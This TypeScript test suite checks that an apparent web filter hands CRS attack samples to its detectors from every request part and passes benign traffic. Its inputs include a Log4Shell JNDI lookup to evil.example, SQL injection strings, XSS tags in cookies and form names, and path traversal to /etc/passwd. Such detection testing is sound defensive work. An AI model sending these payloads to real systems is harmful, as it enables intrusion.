// CRS regression tests replayed through the real filter in the host (tests/eval/attacks/host-replay.ts): a fixed
// subset of paranoia-1 positives across the groups must be detected through the host whenever the detectors
// alone (the harness, values split in JavaScript) detect them, so request parts the filter fails to hand to the
// detectors (headers, cookie names, XML bodies, form fields, path) show up here. Plus benign requests that must
// pass at paranoia 1. Full tables: npm run eval:attacks.
import { test } from "node:test";
import assert from "node:assert/strict";
import { AttackHarness } from "../../eval/attacks/harness.ts";
import { CRS_GROUPS, caseLevel, corporaPresent, loadCrsCases, type CrsRequest } from "../../eval/attacks/eval.ts";
import { HostReplay, hostCaseLevel } from "../../eval/attacks/host-replay.ts";

const skip = corporaPresent() ? false : "corpora not found at ../shared/corpora";

// Spread over each group's paranoia-1 positives (query, form, JSON, path, User-Agent/Referer), plus the request
// parts the filter used to miss: cookie names (944100-7, 941110-8, 941140-3, 933100-89), other headers (944100-9
// `Test`, 941110-11 `Remote-IP`, 933100-91 `X-Forwarded-For`, 930110-1), XML bodies (942100-15, 942190-47,
// 942280-5, 934190-21).
const SUBSET = [
  "930100-2", "930110-1", "930110-3", "930110-13", "930120-3", "930120-15", "931100-4", "931120-6", "932130-1",
  "932140-16", "932140-42", "932140-68", "932140-93", "932140-123", "932230-25", "933100-1", "933100-26", "933100-47",
  "933100-67", "933130-2", "933160-2", "933160-21", "934100-1", "934100-18", "934110-1", "934130-4", "934130-11",
  "934170-5", "934200-1", "941100-1", "941120-6", "941130-12", "941160-4", "941190-4", "941220-3", "941290-3",
  "942100-1", "942160-1", "942160-23", "942190-20", "942240-3", "942290-10", "942360-37", "944100-1", "944120-64",
  "944130-25", "944130-103", "944130-181", "944130-259", "944130-337",
  "944100-7", "941110-8", "941140-3", "933100-89", "944100-9", "941110-11", "933100-91", "942100-15", "942190-47",
  "942280-5", "934190-21",
];

test("CRS paranoia-1 positives: detected through the host whenever the detectors alone detect them", { skip }, () => {
  const cases = loadCrsCases().filter((c) => SUBSET.includes(c.testId) && c.positive);
  assert.equal(new Set(cases.map((c) => c.testId)).size, SUBSET.length, "every subset id names a positive test stage");
  const h = new AttackHarness();
  const host = new HostReplay();
  try {
    const misses: string[] = [];
    let harnessDetected = 0;
    for (const c of cases) {
      const kinds = CRS_GROUPS[c.group].kinds;
      if (caseLevel(h, c, kinds) !== 1) continue; // a detector change, not the host's business
      harnessDetected++;
      const r = host.findings(c.request, 1);
      if (!r.some((f) => (kinds as string[]).includes(f.detector))) misses.push(`${c.testId} (host found: ${r.map((f) => `${f.detector}@${f.path}`).join(", ") || "nothing"})`);
    }
    assert.ok(harnessDetected >= SUBSET.length - 6, `only ${harnessDetected}/${SUBSET.length} of the subset detected by the detectors alone`);
    assert.deepEqual(misses, [], "detected by the detectors alone but not through the filter");
  } finally {
    host.close();
  }
});

test("CRS parts through the host: where findings come from (cookie names, other headers, XML parts)", { skip }, () => {
  const host = new HostReplay();
  try {
    const byId = new Map(loadCrsCases().map((c) => [c.testId, c]));
    const where = (id: string) => {
      const c = byId.get(id)!;
      const kinds = CRS_GROUPS[c.group].kinds as string[];
      return host.findings(c.request, 1).filter((f) => kinds.includes(f.detector)).map((f) => f.path);
    };
    assert.deepEqual(where("944100-7"), ["cookie"]); // a Java class as a cookie name
    assert.deepEqual(where("944100-9"), ["test"]); // a non-standard header
    assert.deepEqual(where("933100-91"), ["x-forwarded-for"]);
    assert.ok(where("942100-15").length > 0, "SQL injection in an XML attribute value");
    // a multipart part name is judged too (CRS ARGS_NAMES); the part body is harmless
    const boundary = "----b0undary";
    const part = (name: string) => Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\nhello\r\n--${boundary}--\r\n`);
    const mp = (name: string): CrsRequest => ({ method: "POST", uri: "/upload", autocomplete: true, body: part(name),
      headers: [["Host", "app"], ["Content-Type", `multipart/form-data; boundary=${boundary}`]] });
    assert.deepEqual(host.findings(mp("<script>alert(1)</script>"), 1).map((f) => f.detector), ["attack.xss"]);
    assert.deepEqual(host.findings(mp("comment"), 1), []);
  } finally {
    host.close();
  }
});

const req = (uri: string, headers: [string, string][], body?: string, method = "GET"): CrsRequest =>
  ({ method, uri, headers: [["Host", "api"], ...headers], body: body === undefined ? undefined : Buffer.from(body), autocomplete: true });

test("request parts the filter hands to attack.* (no corpora needed)", () => {
  const host = new HostReplay();
  try {
    const found = (r: CrsRequest) => host.findings(r, 1).map((f) => `${f.detector}@${f.path}`).sort();
    assert.deepEqual(found(req("/", [["X-Trace-Note", "${jndi:ldap://evil.example/a}"]])), ["attack.log4shell@x-trace-note", "attack.ssrf@x-trace-note"]);
    assert.deepEqual(found(req("/", [["X-Forwarded-For", "1' OR '1'='1' --"]])), ["attack.sqli@x-forwarded-for"]);
    assert.deepEqual(found(req("/", [["Cookie", "theme=dark; <script>alert(1)</script>=1"]])), ["attack.xss@cookie"]);
    // headers HTTP defines are not read by attack.* (they would only add noise): Accept, Content-*, Sec-*
    assert.deepEqual(found(req("/", [["Accept", "../../../../etc/passwd"], ["Sec-Fetch-Dest", "../../../../etc/passwd"]])), []);
    // XML: an attribute value, a text node and a CDATA section are each judged (the whole document is no SQL)
    for (const doc of ['<?xml version="1.0"?><order><item sku="1234 OR 1=1" qty="2">shoes</item></order>',
      '<?xml version="1.0"?><order><item sku="ab-12">1234 OR 1=1</item></order>',
      '<?xml version="1.0"?><order><item sku="ab-12">shoes</item><note><![CDATA[1234 OR 1=1]]></note></order>']) {
      assert.deepEqual(found(req("/orders", [["Content-Type", "application/xml"]], doc, "POST")), ["attack.sqli@"], doc);
    }
    // %2B is a '+' the application sees (SQL string concatenation), not a space
    assert.deepEqual(found(req("/search?q=a%27%2B(select%2B1)%2B%27", [])), ["attack.sqli@q"]);
    assert.deepEqual(found(req("/form", [["Content-Type", "application/x-www-form-urlencoded"]], "q=a%27%2B(select%2B1)%2B%27", "POST")), ["attack.sqli@q"]);
    // an upload's file name (CRS FILES), even for a binary part whose content is not scanned
    const upload = (filename: string) => req("/upload", [["Content-Type", "multipart/form-data; boundary=XyZ"]],
      `--XyZ\r\nContent-Disposition: form-data; name="avatar"; filename="${filename}"\r\nContent-Type: application/octet-stream\r\n\r\n\u0001\u0002\r\n--XyZ--\r\n`, "POST");
    assert.deepEqual(found(upload("../../../../etc/cron.d/job")), ["attack.path_traversal@avatar.filename"]);
    assert.deepEqual(found(upload("holiday photo (2).jpg")), []);
  } finally {
    host.close();
  }
});

const BENIGN: Array<[string, CrsRequest]> = [
  ["browser GET with many headers and cookies", { method: "GET", uri: "/products/shoes?page=2&sort=price_asc&q=running+shoes", autocomplete: true, body: undefined, headers: [
    ["Host", "shop.example.com"], ["User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36"],
    ["Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"], ["Referer", "https://shop.example.com/products?category=shoes"],
    ["Cookie", "_ga=GA1.2.1234567890.1700000000; session_id=3f2a9c1e-7b4d-4e8f-9a6b-0c1d2e3f4a5b; theme=dark; cart=%7B%22items%22%3A3%7D"],
    ["Sec-CH-UA", '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"'], ["X-Requested-With", "XMLHttpRequest"],
    ["X-Forwarded-For", "203.0.113.7, 10.0.0.2"], ["X-Forwarded-Host", "shop.example.com"], ["Forwarded", "for=192.0.2.60;proto=https;by=203.0.113.43"],
    ["X-CSRF-Token", "kJ8s9dF2-Lq0wPzX_3vB7nM1aR5tY6uI"], ["Baggage", "userId=alice,serverNode=DF%2028,isProduction=false"],
    ["X-Correlation-ID", "5b8d4c2a-1f3e-4a6b-9c7d-8e0f1a2b3c4d"], ["If-None-Match", 'W/"5e-1a2b3c"'], ["X-Amz-Date", "20261121T183000Z"],
  ] }],
  ["JSON POST with prose", { method: "POST", uri: "/api/comments", autocomplete: true, headers: [["Host", "api"], ["Content-Type", "application/json"]],
    body: Buffer.from(JSON.stringify({ text: "Union members will meet at 5; bring snacks. Select the best option -- O'Reilly's book", rating: 4 })) }],
  ["form POST", { method: "POST", uri: "/signup", autocomplete: true, headers: [["Host", "app"], ["Content-Type", "application/x-www-form-urlencoded"]],
    body: Buffer.from("name=Ann+O%27Neil&email=ann%40example.com&bio=I+like+SQL+%26+shell+scripting&plan=pro") }],
  ["XML POST with attributes and prose", { method: "POST", uri: "/orders", autocomplete: true, headers: [["Host", "app"], ["Content-Type", "application/xml"]],
    body: Buffer.from('<?xml version="1.0" encoding="UTF-8"?><order id="A-1029" currency="EUR"><customer name="Ann O\'Neil">Deliver after 5pm; ring twice &amp; wait</customer><item sku="ab-12" qty="2">Running shoes (size 42)</item><note><![CDATA[Select the red ones, or the blue ones if out of stock]]></note></order>') }],
];

test("benign requests through the host: no attack.* finding at paranoia 1", { skip }, () => {
  const host = new HostReplay();
  try {
    for (const [name, r] of BENIGN) assert.deepEqual(host.findings(r, 1), [], name);
    // the benign requests do reach the detectors: the same XML with an injected attribute is flagged
    const xml = BENIGN[3][1];
    const bad = { ...xml, body: Buffer.from(xml.body!.toString().replace('qty="2"', `qty="2' OR '1'='1"`)) };
    assert.ok(host.findings(bad, 1).some((f) => f.detector === "attack.sqli"), "injected XML attribute not flagged");
  } finally {
    host.close();
  }
});
